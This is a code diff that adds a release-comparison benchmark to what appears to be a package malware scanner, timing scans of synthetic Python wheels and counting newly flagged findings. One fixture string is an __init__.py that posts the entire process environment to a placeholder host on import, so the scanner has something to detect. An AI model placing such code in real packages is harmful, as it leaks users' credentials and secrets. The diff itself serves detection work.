@@ -12,6 +12,8 @@ import { packTar } from 'modern-tar';
 import { gunzipCapped, MAX_UNPACKED_BYTES } from '../utils/analysis/code-scan/archive';
 import { scanDistribution } from '../utils/analysis/code-scan';
 import { HOSTILE_SHAPES } from './bench/hostile-archives';
+import { markNewFindings } from '../utils/analysis/code-scan/new-in-release';
+import { syntheticWheel } from '../test/unit/utils/analysis/code-scan/synthetic-archives';
 
 export const TARGET_SDIST_BYTES = 5 * 1024 * 1024;
 
@@ -114,7 +116,9 @@ export async function runCodeScanBench(runs = 5) {
     gunzipMs.push(performance.now() - t1);
   }
   const unpacked = gunzipCapped(sdist, MAX_UNPACKED_BYTES).length;
+  const release = await releaseComparisonBench(sdist, runs);
   return {
+    ...release,
     sdistBytes: sdist.length,
     unpackedBytes: unpacked,
     entries,
@@ -124,6 +128,44 @@ export async function runCodeScanBench(runs = 5) {
     gunzipMs,
     ...(await hostileShapes(runs)),
   };
+}
+
+/** The wheel of a release: the same sources as package modules, a module-level __init__.py that sends the environment (or not). */
+function benchWheel(version: string, leaks: boolean): Uint8Array {
+  const files: Record<string, Uint8Array | string> = {
+    'bench/__init__.py': leaks ? 'import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n' : 'import requests\n',
+    [`bench-${version}.dist-info/METADATA`]: `Name: bench\nVersion: ${version}\n`,
+  };
+  for (const [i, path] of pythonSources().slice(0, 600).entries()) files[`bench/m${i}/${path.split('/').pop()}`] = readFileSync(path);
+  return syntheticWheel(files);
+}
+
+/**
+ * Issue 18 §3: the 5 MB sdist, its wheel and the previous release's wheel scanned one after the other, and the
+ * findings compared: what the background does when the viewed release has something to mark new.
+ */
+async function releaseComparisonBench(sdist: Uint8Array, runs: number) {
+  const wheel = benchWheel('1.0', true);
+  const previous = benchWheel('0.9', false);
+  const wheelMeta = { ...BENCH_META, filename: 'bench-1.0-py3-none-any.whl', packageType: 'bdist_wheel' as const, size: wheel.length };
+  const prevMeta = { ...wheelMeta, filename: 'bench-0.9-py3-none-any.whl', version: '0.9', size: previous.length };
+  const releaseScanMs: number[] = [];
+  let newFindings = 0;
+  for (let run = 0; run < runs; run++) {
+    const t0 = performance.now();
+    const [s, w, p] = [
+      await scanDistribution(sdist, { ...BENCH_META, size: sdist.length }),
+      await scanDistribution(wheel, wheelMeta),
+      await scanDistribution(previous, prevMeta),
+    ];
+    const marked = markNewFindings(
+      { version: '1.0', distributions: [s.distribution, w.distribution], findings: [...s.findings, ...w.findings] },
+      { version: '0.9', distributions: [p.distribution], findings: p.findings },
+    );
+    releaseScanMs.push(performance.now() - t0);
+    newFindings = marked.filter((f) => f.newInRelease).length;
+  }
+  return { releaseWheelBytes: wheel.length, releaseScanMs, releaseNewFindings: newFindings };
 }
 
 /**
